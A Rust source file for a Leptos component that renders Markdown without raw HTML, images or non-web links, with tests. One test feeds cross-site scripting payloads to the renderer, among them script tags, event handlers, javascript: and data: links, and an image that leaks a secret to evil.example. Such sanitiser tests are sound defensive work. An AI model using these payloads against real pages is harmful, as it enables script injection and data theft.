//! Markdown as views. Nothing of it becomes raw HTML: what looks like HTML is shown as text, pictures
//! are not loaded, and a link leads to the web or nowhere.

use leptos::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use super::CopyButton;

/// Shown anew whenever the text grows. `after_code` may add something below a block of code.
#[component]
pub fn Markdown(
    #[prop(into)] text: Signal<String>,
    #[prop(optional, into)] after_code: Option<Callback<String, AnyView>>,
) -> impl IntoView {
    view! {
        <div class="markdown" dir="auto">
            {move || text.with(|text| render(text, after_code))}
        </div>
    }
    .into_any()
}

fn render(text: &str, after_code: Option<Callback<String, AnyView>>) -> AnyView {
    let options =
        Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TASKLISTS;
    let mut events = Parser::new_ext(text, options);
    inside(&mut events, None, after_code)
}

/// The views up to this end.
fn inside(
    events: &mut Parser<'_>,
    end: Option<TagEnd>,
    after_code: Option<Callback<String, AnyView>>,
) -> AnyView {
    let mut views: Vec<AnyView> = Vec::new();
    while let Some(event) = events.next() {
        let view = match event {
            Event::End(ended) if Some(ended) == end => break,
            Event::End(_) => continue,
            Event::Start(tag) => element(tag, events, after_code),
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => {
                text.into_string().into_any()
            }
            Event::Code(code) => view! { <code>{code.into_string()}</code> }.into_any(),
            Event::SoftBreak => " ".into_any(),
            Event::HardBreak => view! { <br /> }.into_any(),
            Event::Rule => view! { <hr /> }.into_any(),
            Event::TaskListMarker(true) => "☑ ".into_any(),
            Event::TaskListMarker(false) => "☐ ".into_any(),
            _ => continue,
        };
        views.push(view);
    }
    views.into_any()
}

fn element(
    tag: Tag<'_>,
    events: &mut Parser<'_>,
    after_code: Option<Callback<String, AnyView>>,
) -> AnyView {
    let end = tag.to_end();
    match tag {
        Tag::CodeBlock(_) => {
            let mut code = String::new();
            for event in events.by_ref() {
                match event {
                    Event::End(TagEnd::CodeBlock) => break,
                    Event::Text(text) => code.push_str(&text),
                    _ => {}
                }
            }
            return block(code, after_code);
        }
        Tag::Image { .. } => {
            let words = words(events, end);
            return view! { <span class="markdown-picture">{format!("[picture: {words}]")}</span> }
                .into_any();
        }
        Tag::Link { dest_url, .. } => {
            let inner = inside(events, Some(end), after_code);
            let is_web = dest_url.starts_with("https://") || dest_url.starts_with("http://");
            if !is_web {
                return inner;
            }
            let url = dest_url.into_string();
            let title = url.clone();
            return view! {
                <a href=url title=title target="_blank" rel="noopener noreferrer external">
                    {inner}
                </a>
            }
            .into_any();
        }
        _ => {}
    }
    let inner = inside(events, Some(end), after_code);
    match tag {
        Tag::Paragraph => view! { <p>{inner}</p> }.into_any(),
        // Below the headings of the page itself.
        Tag::Heading { .. } => view! { <p class="markdown-heading">{inner}</p> }.into_any(),
        Tag::BlockQuote(_) => view! { <blockquote>{inner}</blockquote> }.into_any(),
        Tag::List(Some(start)) => view! { <ol start=start.to_string()>{inner}</ol> }.into_any(),
        Tag::List(None) => view! { <ul>{inner}</ul> }.into_any(),
        Tag::Item => view! { <li>{inner}</li> }.into_any(),
        Tag::Emphasis => view! { <em>{inner}</em> }.into_any(),
        Tag::Strong => view! { <strong>{inner}</strong> }.into_any(),
        Tag::Strikethrough => view! { <s>{inner}</s> }.into_any(),
        Tag::Table(_) => view! {
            <div class="markdown-table" role="group" aria-label="Table" tabindex="0">
                <table>{inner}</table>
            </div>
        }
        .into_any(),
        Tag::TableHead => view! { <thead><tr>{inner}</tr></thead> }.into_any(),
        Tag::TableRow => view! { <tr>{inner}</tr> }.into_any(),
        Tag::TableCell => view! { <td>{inner}</td> }.into_any(),
        _ => inner,
    }
}

fn block(code: String, after_code: Option<Callback<String, AnyView>>) -> AnyView {
    let (copied, below) = (code.clone(), code.clone());
    view! {
        <figure class="markdown-code">
            <pre tabindex="0">{code}</pre>
            <figcaption>
                <CopyButton what="the code" text=move |()| copied.clone() />
                {after_code.map(|after| after.run(below))}
            </figcaption>
        </figure>
    }
    .into_any()
}

/// The plain words up to an end.
fn words(events: &mut Parser<'_>, end: TagEnd) -> String {
    let mut words = String::new();
    for event in events.by_ref() {
        match event {
            Event::End(ended) if ended == end => break,
            Event::Text(text) | Event::Code(text) => words.push_str(&text),
            _ => {}
        }
    }
    words
}

#[cfg(all(test, feature = "ssr"))]
mod tests {
    use super::*;

    fn html(text: &str) -> String {
        let owner = Owner::new();
        let html = owner.with(|| render(text, None).to_html());
        // Hydration needs marks between texts.
        html.replace("<!>", "")
    }

    #[test]
    fn the_usual_parts_are_drawn() {
        let shown = html(
            "# Cause\n\nThe **pod** is `down`:\n\n1. look\n2. mend\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        );
        for part in [
            "<p class=\"markdown-heading\">Cause",
            "<strong>pod",
            "<code>down",
            "<ol start=\"1\">",
            "<td>1",
        ] {
            assert!(shown.contains(part), "{part} in {shown}");
        }
        assert!(html("```sh\nkubectl get pods\n```").contains("kubectl get pods\n</pre>"));
    }

    #[test]
    fn nothing_hostile_becomes_a_part_of_the_page() {
        for text in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "a <b onmouseover=alert(1)>b</b>",
            "![x](https://evil.example/leak?q=secret)",
            "[x](javascript:alert(1))",
            "[x](data:text/html,<script>)",
            "[x](//evil.example)",
            "<https://evil.example/\" onclick=\"alert(1)>",
        ] {
            let shown = html(text);
            for bad in [
                "<script",
                "<img",
                "onerror=alert(1)>",
                "<b ",
                "href=\"java",
                "href=\"data",
                "href=\"//",
                "src=",
            ] {
                let is_text = shown.contains(&bad.replace('<', "&lt;"));
                assert!(
                    !shown.contains(bad) || is_text && !bad.contains('<'),
                    "{text}: {bad} in {shown}"
                );
            }
        }
        assert!(html("[web](https://a.example)").contains("rel=\"noopener noreferrer external\""));
    }

    #[test]
    fn half_of_a_text_can_be_drawn() {
        let whole = "**bold** and `code`\n\n```\nlines\n```\n\n- [ ] a [link](https://x.example)\n\n| a |\n|---|\n| b |\n";
        for (at, _) in whole.char_indices() {
            let _ = html(&whole[..at]);
        }
    }
}
